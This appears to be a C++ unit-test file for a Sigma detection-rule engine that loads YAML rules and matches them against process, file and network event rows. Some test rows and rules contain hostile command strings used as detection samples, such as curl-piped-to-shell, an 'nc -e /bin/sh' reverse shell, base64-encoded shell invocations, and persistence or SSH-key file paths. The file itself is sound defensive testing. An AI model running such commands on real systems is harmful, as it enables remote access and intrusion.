// Sigma rules end to end: YAML → field mapping → Hyperscan/RE2 matching on row batches.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <thread>

#include "detect/sigma.h"
#include "detect/sigma_test_util.h"

namespace ward::detect {
namespace {

using testing::EmptyRow;
using testing::kFile;
using testing::kNet;
using testing::kProc;
using testing::Set;

std::string Rule(std::string_view category, std::string_view detection, std::string_view extra = "") {
  return "title: Test rule\nid: 11111111-2222-3333-4444-555555555555\nstatus: test\nlevel: high\n" + std::string(extra) +
         "logsource:\n  product: linux\n  category: " + std::string(category) + "\ndetection:\n" +
         std::string(detection);
}

// One compiled rule; Fires() runs Match on a one-row batch.
class OneRule {
 public:
  explicit OneRule(const std::string& yaml) {
    outcome_ = set_.LoadRule(yaml, "test.yml");
    EXPECT_EQ(outcome_.state, SigmaLoadState::kLoaded) << outcome_.reason;
    EXPECT_TRUE(set_.Compile().ok());
  }
  bool Fires(const events::Row& row) const {
    events::RowBatch batch;
    batch.rows.push_back(row);
    std::vector<SigmaHit> hits;
    Status st = set_.Match(batch, events::SchemaRegistry::Hunting(), &hits);
    EXPECT_TRUE(st.ok()) << st.message();
    return !hits.empty();
  }
  const SigmaRuleSet& set() const { return set_; }

 private:
  SigmaRuleSet set_;
  SigmaLoadOutcome outcome_;
};

events::Row Proc(std::string image, std::string cmd) {
  events::Row r = EmptyRow(kProc);
  if (!image.empty()) Set(r, kProc, "FolderPath", image);
  if (!cmd.empty()) Set(r, kProc, "ProcessCommandLine", cmd);
  return r;
}

TEST(SigmaMatchTest, PlainValuesAreWholeValueCaseInsensitive) {
  OneRule r(Rule("process_creation", "  sel:\n    Image: '/usr/bin/Whoami'\n  condition: sel\n"));
  EXPECT_TRUE(r.Fires(Proc("/usr/bin/whoami", "")));
  EXPECT_TRUE(r.Fires(Proc("/USR/BIN/WHOAMI", "")));
  EXPECT_FALSE(r.Fires(Proc("/usr/bin/whoami2", "")));
  EXPECT_FALSE(r.Fires(Proc("x/usr/bin/whoami", "")));
  EXPECT_FALSE(r.Fires(Proc("", "")));
}

TEST(SigmaMatchTest, ContainsStartswithEndswith) {
  OneRule r(Rule("process_creation",
                 "  sel:\n    Image|endswith: '/curl'\n    CommandLine|startswith: 'curl '\n"
                 "    CommandLine|contains: '| sh'\n  condition: sel\n"));
  EXPECT_TRUE(r.Fires(Proc("/usr/bin/curl", "curl http://x | sh")));
  EXPECT_FALSE(r.Fires(Proc("/usr/bin/curl", " curl http://x | sh")));
  EXPECT_FALSE(r.Fires(Proc("/usr/bin/curl2", "curl http://x | sh")));
  EXPECT_FALSE(r.Fires(Proc("/usr/bin/curl", "curl http://x")));
}

TEST(SigmaMatchTest, ListsAreOrAllIsAnd) {
  OneRule any(Rule("process_creation", "  sel:\n    CommandLine|contains:\n      - alpha\n      - beta\n  condition: sel\n"));
  EXPECT_TRUE(any.Fires(Proc("", "x beta y")));
  EXPECT_FALSE(any.Fires(Proc("", "gamma")));
  OneRule all(Rule("process_creation",
                   "  sel:\n    CommandLine|contains|all:\n      - alpha\n      - beta\n  condition: sel\n"));
  EXPECT_TRUE(all.Fires(Proc("", "beta and alpha")));
  EXPECT_FALSE(all.Fires(Proc("", "x beta y")));
}

TEST(SigmaMatchTest, WildcardsAndEscapedWildcards) {
  OneRule r(Rule("process_creation", "  sel:\n    CommandLine: 'echo ?i*\\*'\n  condition: sel\n"));
  EXPECT_TRUE(r.Fires(Proc("", "echo hi there*")));
  EXPECT_TRUE(r.Fires(Proc("", "echo Hi*")));
  EXPECT_FALSE(r.Fires(Proc("", "echo hi there")));   // the final * is literal
  EXPECT_FALSE(r.Fires(Proc("", "echo i*")));         // ? needs one character
  // Regex metacharacters in values are literal.
  OneRule meta(Rule("process_creation", "  sel:\n    CommandLine|contains: 'a.b(c)[d]+$'\n  condition: sel\n"));
  EXPECT_TRUE(meta.Fires(Proc("", "x a.b(c)[d]+$ y")));
  EXPECT_FALSE(meta.Fires(Proc("", "x aXb(c)[d]+$ y")));
}

TEST(SigmaMatchTest, CasedModifier) {
  OneRule r(Rule("process_creation", "  sel:\n    CommandLine|contains|cased: 'RCE'\n  condition: sel\n"));
  EXPECT_TRUE(r.Fires(Proc("", "git clone RCE-poc")));
  EXPECT_FALSE(r.Fires(Proc("", "git clone rce-poc")));
}

TEST(SigmaMatchTest, RegexIsCaseSensitiveUnlessI) {
  OneRule r(Rule("process_creation", "  sel:\n    CommandLine|re: '\\s-[FTd]\\s'\n  condition: sel\n"));
  EXPECT_TRUE(r.Fires(Proc("", "curl -F a=b http://x")));
  EXPECT_FALSE(r.Fires(Proc("", "curl -f http://x")));
  OneRule ri(Rule("process_creation", "  sel:\n    CommandLine|re|i: '^wget .*-o'\n  condition: sel\n"));
  EXPECT_TRUE(ri.Fires(Proc("", "WGET x -O /tmp/y")));
  EXPECT_FALSE(ri.Fires(Proc("", "curl wget -O")));
}

TEST(SigmaMatchTest, RegexHyperscanRejectsFallsBackToRe2) {
  // \C (any byte) is RE2 syntax that Hyperscan rejects.
  OneRule r(Rule("process_creation", "  sel:\n    CommandLine|re: 'x\\C{2}y'\n  condition: sel\n"));
  EXPECT_TRUE(r.Fires(Proc("", "aaxZZyaa")));
  EXPECT_FALSE(r.Fires(Proc("", "xy")));
}

TEST(SigmaMatchTest, BadRegexFailsWithLine) {
  SigmaRuleSet set;
  auto o = set.LoadRule(Rule("process_creation", "  sel:\n    CommandLine|re: '(unclosed'\n  condition: sel\n"),
                        "bad.yml");
  EXPECT_EQ(o.state, SigmaLoadState::kFailed);
  EXPECT_NE(o.reason.find("bad.yml: line 10"), std::string::npos) << o.reason;
  // Backreferences are rejected by both engines, which is what keeps matching linear-time.
  auto back = set.LoadRule(Rule("process_creation", "  sel:\n    CommandLine|re: '(a+)+\\1'\n  condition: sel\n"));
  EXPECT_EQ(back.state, SigmaLoadState::kFailed) << back.reason;
}

TEST(SigmaMatchTest, Base64AndBase64Offset) {
  OneRule b(Rule("process_creation", "  sel:\n    CommandLine|base64: 'whoami'\n  condition: sel\n"));
  EXPECT_TRUE(b.Fires(Proc("", "d2hvYW1p")));
  EXPECT_FALSE(b.Fires(Proc("", "echo d2hvYW1p")));  // no contains: the whole value
  OneRule off(Rule("process_creation", "  sel:\n    CommandLine|base64offset|contains: '/bin/sh'\n  condition: sel\n"));
  for (std::string_view prefix : {"", "a", "ab"}) {
    std::string encoded = sigma_internal::Base64Encode(std::string(prefix) + "/bin/sh -i");
    EXPECT_TRUE(off.Fires(Proc("", "echo " + encoded + " | base64 -d"))) << prefix;
  }
  EXPECT_FALSE(off.Fires(Proc("", "echo " + sigma_internal::Base64Encode("/bin/bash"))));
}

TEST(SigmaMatchTest, Windash) {
  OneRule r(Rule("process_creation", "  sel:\n    CommandLine|windash|contains: ' -exec '\n  condition: sel\n"));
  EXPECT_TRUE(r.Fires(Proc("", "find . -exec sh")));
  EXPECT_TRUE(r.Fires(Proc("", "find . /exec sh")));
  EXPECT_TRUE(r.Fires(Proc("", "find . \xE2\x80\x93" "exec sh")));
  EXPECT_FALSE(r.Fires(Proc("", "find . exec sh")));
}

TEST(SigmaMatchTest, NullExistsAndEmpty) {
  OneRule null(Rule("process_creation", "  sel:\n    Image|endswith: '/sh'\n    CommandLine: null\n  condition: sel\n"));
  EXPECT_TRUE(null.Fires(Proc("/bin/sh", "")));
  EXPECT_FALSE(null.Fires(Proc("/bin/sh", "sh -c x")));
  OneRule exists(Rule("process_creation",
                      "  sel:\n    Image|endswith: '/sh'\n    ParentImage|exists: true\n  condition: sel\n"));
  events::Row with_parent = Proc("/bin/sh", "");
  Set(with_parent, kProc, "InitiatingProcessFolderPath", std::string("/usr/bin/bash"));
  EXPECT_TRUE(exists.Fires(with_parent));
  EXPECT_FALSE(exists.Fires(Proc("/bin/sh", "")));
  OneRule missing(Rule("process_creation",
                       "  sel:\n    Image|endswith: '/sh'\n    ParentImage|exists: false\n  condition: sel\n"));
  EXPECT_TRUE(missing.Fires(Proc("/bin/sh", "")));
  EXPECT_FALSE(missing.Fires(with_parent));
  OneRule any(Rule("process_creation", "  sel:\n    CommandLine: '*'\n  condition: sel\n"));
  EXPECT_TRUE(any.Fires(Proc("", "x")));
  EXPECT_FALSE(any.Fires(Proc("/bin/sh", "")));
}

TEST(SigmaMatchTest, NotFilterFiresWithoutPatternHits) {
  // The condition holds with no pattern hit at all; the engine must still evaluate the rule.
  OneRule r(Rule("process_creation", "  filter:\n    Image|startswith: '/usr/'\n  condition: not filter\n"));
  EXPECT_TRUE(r.Fires(Proc("/tmp/x", "")));
  EXPECT_FALSE(r.Fires(Proc("/usr/bin/x", "")));
}

TEST(SigmaMatchTest, NumbersAndComparisons) {
  OneRule port(Rule("network_connection", "  sel:\n    DestinationPort:\n      - 4444\n      - 1337\n  condition: sel\n"));
  events::Row n = EmptyRow(kNet);
  Set(n, kNet, "RemotePort", int64_t{4444});
  EXPECT_TRUE(port.Fires(n));
  Set(n, kNet, "RemotePort", int64_t{44444});
  EXPECT_FALSE(port.Fires(n));
  OneRule range(Rule("network_connection",
                     "  low:\n    DestinationPort|lt: 1024\n  high:\n    DestinationPort|gte: 60000\n"
                     "  condition: low or high\n"));
  Set(n, kNet, "RemotePort", int64_t{1023});
  EXPECT_TRUE(range.Fires(n));
  Set(n, kNet, "RemotePort", int64_t{1024});
  EXPECT_FALSE(range.Fires(n));
  Set(n, kNet, "RemotePort", int64_t{60000});
  EXPECT_TRUE(range.Fires(n));
  // Text patterns on a numeric column match its decimal form.
  OneRule prefix(Rule("network_connection", "  sel:\n    DestinationPort|startswith: '44'\n  condition: sel\n"));
  Set(n, kNet, "RemotePort", int64_t{4433});
  EXPECT_TRUE(prefix.Fires(n));
  Set(n, kNet, "RemotePort", int64_t{3444});
  EXPECT_FALSE(prefix.Fires(n));
}

TEST(SigmaMatchTest, CidrAndInitiated) {
  OneRule r(Rule("network_connection",
                 "  sel:\n    Initiated: 'true'\n  filter:\n    DestinationIp|cidr:\n      - '10.0.0.0/8'\n"
                 "      - 'fc00::/7'\n  condition: sel and not filter\n"));
  events::Row n = EmptyRow(kNet);
  Set(n, kNet, "RemoteIP", std::string("8.8.8.8"));
  EXPECT_TRUE(r.Fires(n));
  Set(n, kNet, "RemoteIP", std::string("10.2.3.4"));
  EXPECT_FALSE(r.Fires(n));
  Set(n, kNet, "RemoteIP", std::string("fd00::1"));
  EXPECT_FALSE(r.Fires(n));
  Set(n, kNet, "RemoteIP", std::string("8.8.8.8"));
  Set(n, kNet, "ActionType", std::string("InboundConnectionAccepted"));
  EXPECT_FALSE(r.Fires(n));
  OneRule inbound(Rule("network_connection", "  sel:\n    Initiated: 'false'\n  condition: sel\n"));
  EXPECT_TRUE(inbound.Fires(n));
  Set(n, kNet, "ActionType", std::string("ListeningConnectionCreated"));
  EXPECT_FALSE(inbound.Fires(n));
}

TEST(SigmaMatchTest, CategoryImpliesActionType) {
  OneRule del(Rule("file_delete", "  sel:\n    TargetFilename|endswith: '.bash_history'\n  condition: sel\n"));
  events::Row f = EmptyRow(kFile);
  Set(f, kFile, "FolderPath", std::string("/root/.bash_history"));
  Set(f, kFile, "ActionType", std::string("FileDeleted"));
  EXPECT_TRUE(del.Fires(f));
  Set(f, kFile, "ActionType", std::string("FileCreated"));
  EXPECT_FALSE(del.Fires(f));
  OneRule any(Rule("file_event", "  sel:\n    TargetFilename|endswith: '.bash_history'\n  condition: sel\n"));
  EXPECT_TRUE(any.Fires(f));
  // process_creation applies to ProcessCreated only (MDE also logs OpenProcess in the table).
  OneRule proc(Rule("process_creation", "  sel:\n    Image|endswith: '/sh'\n  condition: sel\n"));
  events::Row p = Proc("/bin/sh", "");
  EXPECT_TRUE(proc.Fires(p));
  Set(p, kProc, "ActionType", std::string("OpenProcess"));
  EXPECT_FALSE(proc.Fires(p));
}

TEST(SigmaMatchTest, HashesSelectTheirColumn) {
  std::string sha = std::string(64, 'a');
  OneRule r(Rule("process_creation", "  sel:\n    Hashes|contains: 'SHA256=" + sha + "'\n  condition: sel\n"));
  events::Row p = Proc("/bin/x", "");
  Set(p, kProc, "SHA256", std::string(64, 'A'));
  EXPECT_TRUE(r.Fires(p));
  Set(p, kProc, "SHA256", std::string(64, 'b'));
  EXPECT_FALSE(r.Fires(p));
}

TEST(SigmaMappingTest, SigmaFieldsMapToWardColumnsAsTheSensorFillsThem) {
  auto column = [](SigmaCategory c, std::string_view f) -> std::string {
    for (const SigmaFieldMapping& m : SigmaFieldColumns())
      if (m.category == c && m.sigma_field == f) return std::string(m.ward_column);
    return "?";
  };
  EXPECT_EQ(column(kProc, "Image"), "FolderPath");
  EXPECT_EQ(column(kProc, "CommandLine"), "ProcessCommandLine");
  EXPECT_EQ(column(kProc, "ParentImage"), "InitiatingProcessFolderPath");
  EXPECT_EQ(column(kProc, "ParentCommandLine"), "InitiatingProcessCommandLine");
  EXPECT_EQ(column(kProc, "User"), "AccountName");
  EXPECT_EQ(column(kProc, "ProcessId"), "ProcessId");
  EXPECT_EQ(column(kProc, "ParentProcessId"), "InitiatingProcessId");
  EXPECT_EQ(column(kProc, "LogonId"), "LogonId");
  EXPECT_EQ(column(kProc, "CurrentDirectory"), "");
  EXPECT_EQ(column(kFile, "TargetFilename"), "FolderPath");
  EXPECT_EQ(column(kFile, "Image"), "InitiatingProcessFolderPath");
  EXPECT_EQ(column(kNet, "DestinationIp"), "RemoteIP");
  EXPECT_EQ(column(kNet, "DestinationPort"), "RemotePort");
  EXPECT_EQ(column(kNet, "DestinationHostname"), "RemoteUrl");
  EXPECT_EQ(column(kNet, "SourceIp"), "LocalIP");
  EXPECT_EQ(column(kNet, "SourcePort"), "LocalPort");
  EXPECT_EQ(column(kNet, "Image"), "InitiatingProcessFolderPath");
  EXPECT_EQ(column(kNet, "User"), "InitiatingProcessAccountName");
  // Every mapped column exists in the hunting schema.
  for (const SigmaFieldMapping& m : SigmaFieldColumns()) {
    if (m.ward_column.empty() || m.sigma_field == "Initiated") continue;
    EXPECT_GE(testing::TableOf(m.category).Find(m.ward_column), 0) << m.sigma_field;
  }
  // ParentImage → the parent's full path, as the sensor's AddInitiatingProcess writes it.
  OneRule r(Rule("process_creation", "  sel:\n    ParentImage: '/usr/sbin/nginx'\n    User: www-data\n  condition: sel\n"));
  events::Row p = Proc("/bin/sh", "");
  Set(p, kProc, "InitiatingProcessFolderPath", std::string("/usr/sbin/nginx"));
  Set(p, kProc, "AccountName", std::string("www-data"));
  EXPECT_TRUE(r.Fires(p));
  Set(p, kProc, "AccountName", std::string("root"));
  EXPECT_FALSE(r.Fires(p));
}

TEST(SigmaLoadTest, NotApplicableIsNotAFailure) {
  SigmaRuleSet set;
  auto windows = set.LoadRule(
      "title: t\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  s:\n    Image: x\n"
      "  condition: s\n");
  EXPECT_EQ(windows.state, SigmaLoadState::kNotApplicable);
  EXPECT_NE(windows.reason.find("product 'windows'"), std::string::npos);
  auto cwd = set.LoadRule(Rule("process_creation", "  s:\n    CurrentDirectory: /tmp\n  condition: s\n"));
  EXPECT_EQ(cwd.state, SigmaLoadState::kNotApplicable);
  EXPECT_NE(cwd.reason.find("CurrentDirectory"), std::string::npos);
  auto unknown = set.LoadRule(Rule("process_creation", "  s:\n    Frobnicate: 1\n  condition: s\n"));
  EXPECT_EQ(unknown.state, SigmaLoadState::kNotApplicable);
  EXPECT_NE(unknown.reason.find("Frobnicate"), std::string::npos);
  auto dns = set.LoadRule(Rule("dns_query", "  s:\n    QueryName: x\n  condition: s\n"));
  EXPECT_EQ(dns.state, SigmaLoadState::kNotApplicable);
  auto auditd = set.LoadRule(
      "title: t\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n  s:\n    type: x\n  condition: s\n");
  EXPECT_EQ(auditd.state, SigmaLoadState::kNotApplicable);
  EXPECT_EQ(set.size(), 0u);
}

TEST(SigmaLoadTest, FailuresSayWhyAndWhere) {
  SigmaRuleSet set;
  auto yaml = set.LoadRule("title: t\ndetection: [\n", "broken.yml");
  EXPECT_EQ(yaml.state, SigmaLoadState::kFailed);
  EXPECT_NE(yaml.reason.find("broken.yml: line"), std::string::npos) << yaml.reason;
  auto mod = set.LoadRule(Rule("process_creation", "  s:\n    Image|sounds_like: x\n  condition: s\n"), "m.yml");
  EXPECT_EQ(mod.state, SigmaLoadState::kFailed);
  EXPECT_NE(mod.reason.find("line 10: unsupported modifier 'sounds_like'"), std::string::npos) << mod.reason;
  auto cond = set.LoadRule(Rule("process_creation", "  s:\n    Image: x\n  condition: s and t\n"));
  EXPECT_EQ(cond.state, SigmaLoadState::kFailed);
  EXPECT_NE(cond.reason.find("unknown selection 't'"), std::string::npos);
  auto nocond = set.LoadRule(Rule("process_creation", "  s:\n    Image: x\n"));
  EXPECT_EQ(nocond.state, SigmaLoadState::kFailed);
  EXPECT_NE(nocond.reason.find("no 'condition'"), std::string::npos) << nocond.reason;
  auto notitle = set.LoadRule("logsource: {}\n");
  EXPECT_NE(notitle.reason.find("title"), std::string::npos);
  auto keywords = set.LoadRule(Rule("process_creation", "  s:\n    - evil\n  condition: s\n"));
  EXPECT_NE(keywords.reason.find("keyword"), std::string::npos);
  auto cidr = set.LoadRule(Rule("network_connection", "  s:\n    DestinationIp|cidr: 300.0.0.0/8\n  condition: s\n"));
  EXPECT_NE(cidr.reason.find("invalid CIDR"), std::string::npos);
  auto level = set.LoadRule(
      "title: t\nlevel: severe\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  s:\n"
      "    Image: x\n  condition: s\n");
  EXPECT_EQ(level.state, SigmaLoadState::kFailed);
  EXPECT_EQ(set.size(), 0u);
}

TEST(SigmaLoadTest, MetadataSeverityCategoryTechniques) {
  SigmaRuleSet set;
  auto o = set.LoadRule(
      "title: Persist\nid: abc\nlevel: critical\ndescription: d\ntags:\n  - attack.persistence\n  - attack.t1053.003\n"
      "  - attack.execution\n  - attack.t1059\nlogsource:\n  product: linux\n  category: file_event\n"
      "detection:\n  s:\n    TargetFilename|startswith: /etc/cron.d/\n  condition: s\n");
  ASSERT_EQ(o.state, SigmaLoadState::kLoaded) << o.reason;
  const SigmaRuleInfo& info = set.rule(0);
  EXPECT_EQ(info.Severity(), "High");
  EXPECT_EQ(info.AlertCategory(), "Persistence");
  EXPECT_EQ(info.mitre_techniques, (std::vector<std::string>{"T1053.003", "T1059"}));
  EXPECT_EQ(info.category, kFile);
  SigmaRuleInfo plain;
  for (auto [level, sev] : {std::pair{"informational", "Informational"}, std::pair{"low", "Low"},
                            std::pair{"medium", "Medium"}, std::pair{"high", "High"}}) {
    plain.level = level;
    EXPECT_EQ(plain.Severity(), sev);
  }
  EXPECT_EQ(plain.AlertCategory(), "SuspiciousActivity");
  plain.tags = {"attack.command-and-control"};
  EXPECT_EQ(plain.AlertCategory(), "CommandAndControl");
}

TEST(SigmaLoadTest, DirectoryKeepsGoingPastBadFiles) {
  auto dir = std::filesystem::temp_directory_path() / ("ward-sigma-" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir / "sub");
  std::ofstream(dir / "a.yml") << Rule("process_creation", "  s:\n    Image|endswith: /nc\n  condition: s\n");
  std::ofstream(dir / "sub" / "b.yaml") << "title: [\n";
  std::ofstream(dir / "sub" / "c.yml") << Rule("file_event", "  s:\n    TargetFilename: /tmp/x\n  condition: s\n");
  std::ofstream(dir / "notes.txt") << "not a rule";
  SigmaRuleSet set;
  auto outcomes = set.LoadDirectory(dir);
  std::filesystem::remove_all(dir);
  ASSERT_TRUE(outcomes.has_value());
  ASSERT_EQ(outcomes->size(), 3u);
  EXPECT_EQ((*outcomes)[0].state, SigmaLoadState::kLoaded);
  EXPECT_EQ((*outcomes)[1].state, SigmaLoadState::kFailed);
  EXPECT_NE((*outcomes)[1].reason.find("b.yaml: line "), std::string::npos) << (*outcomes)[1].reason;
  EXPECT_EQ((*outcomes)[2].state, SigmaLoadState::kLoaded);
  EXPECT_EQ(set.size(), 2u);
  EXPECT_FALSE(set.LoadDirectory(dir / "gone").has_value());
}

TEST(SigmaMatchTest, MatchNeedsCompileAndMatchingSchema) {
  SigmaRuleSet set;
  set.LoadRule(Rule("process_creation", "  s:\n    Image|endswith: /nc\n  condition: s\n"));
  events::RowBatch batch;
  std::vector<SigmaHit> hits;
  EXPECT_EQ(set.Match(batch, events::SchemaRegistry::Hunting(), &hits).code(), StatusCode::kFailedPrecondition);
  ASSERT_TRUE(set.Compile().ok());
  std::string error;
  auto other = events::SchemaRegistry::FromTsv("table\tcolumn\ttype\nDeviceProcessEvents\tTimestamp\tdatetime\n", &error);
  ASSERT_TRUE(other.has_value()) << error;
  EXPECT_EQ(set.Match(batch, *other, &hits).code(), StatusCode::kFailedPrecondition);
  // Loading another rule invalidates the compiled matchers.
  set.LoadRule(Rule("process_creation", "  s:\n    Image|endswith: /ncat\n  condition: s\n"));
  EXPECT_FALSE(set.compiled());
}

TEST(SigmaMatchTest, BatchesAndConcurrentCallersGetEveryHit) {
  SigmaRuleSet set;
  set.LoadRule(Rule("process_creation", "  s:\n    Image|endswith: /nc\n  condition: s\n"));
  set.LoadRule(Rule("process_creation", "  s:\n    CommandLine|contains: ' -e '\n  condition: s\n"));
  set.LoadRule(Rule("file_event", "  s:\n    TargetFilename|endswith: /authorized_keys\n  condition: s\n"));
  ASSERT_TRUE(set.Compile().ok());
  events::RowBatch batch;
  for (int i = 0; i < 300; ++i) {
    if (i % 3 == 0) batch.rows.push_back(Proc("/usr/bin/nc", "nc -e /bin/sh 1.2.3.4 " + std::to_string(i)));
    if (i % 3 == 1) batch.rows.push_back(Proc("/usr/bin/ls", "ls -la"));
    if (i % 3 == 2) {
      events::Row f = EmptyRow(kFile);
      Set(f, kFile, "FolderPath", std::string("/root/.ssh/authorized_keys"));
      batch.rows.push_back(f);
    }
  }
  auto run = [&](std::vector<SigmaHit>* hits) {
    for (int k = 0; k < 20; ++k) {
      hits->clear();
      ASSERT_TRUE(set.Match(batch, events::SchemaRegistry::Hunting(), hits).ok());
    }
  };
  std::vector<std::vector<SigmaHit>> results(4);
  std::vector<std::thread> threads;
  for (auto& r : results) threads.emplace_back(run, &r);
  for (auto& t : threads) t.join();
  for (const auto& hits : results) {
    ASSERT_EQ(hits.size(), 300u);  // 100 rows × 2 process rules + 100 file rows × 1
    for (const SigmaHit& h : hits) {
      if (h.row % 3 == 0) EXPECT_LT(h.rule, 2u);
      else EXPECT_EQ(h.rule, 2u) << h.row;
    }
  }
}

}  // namespace
}  // namespace ward::detect
